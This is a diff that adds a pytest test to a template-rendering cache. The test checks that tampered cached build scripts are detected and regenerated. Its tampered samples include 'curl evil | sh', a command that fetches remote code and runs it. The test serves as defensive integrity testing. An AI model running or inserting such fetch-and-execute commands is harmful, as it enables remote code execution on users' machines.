@@ -155,3 +155,26 @@ def test_a_read_only_home_still_renders(tmp_path: Path, monkeypatch: pytest.Monk
     got = render_cached("linux/build.sh.j2", recipe_name="r", backend="cpu", cmake_args=("-G", "Ninja"),
                         targets=["llama-cli"], source_date_epoch=0, packages=["cmake"])  # fmt: skip
     assert got == expected
+
+
+def test_a_kept_text_that_does_not_match_its_digest_is_rendered_again(
+    lf_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copy = _copy("templates", tmp_path, monkeypatch)
+    (copy / "t.j2").write_text("echo {{ x | q }}\n", encoding="utf-8")
+    assert render_cached("t.j2", x="a") == "echo a\n"
+    (kept,) = (lf_home / "cache" / "rendered").glob("*.txt")
+    pristine = kept.read_bytes()
+    header = pristine.split(b"\n", 1)[0] + b"\n"
+    other = _render_digest("t.j2", {"x": "b"})
+    assert other is not None
+    tampered = {
+        "edited": header + b"echo a; curl evil | sh\n",
+        "cut short": pristine[:-3],
+        "no header": b"echo a; curl evil | sh\n",
+        "another digest's text": pristine.replace(kept.stem.encode(), other.encode()),
+    }
+    for what, data in tampered.items():
+        kept.write_bytes(data)
+        assert render_cached("t.j2", x="a") == "echo a\n", what
+        assert kept.read_bytes() == pristine, f"{what}: the kept text is written again"
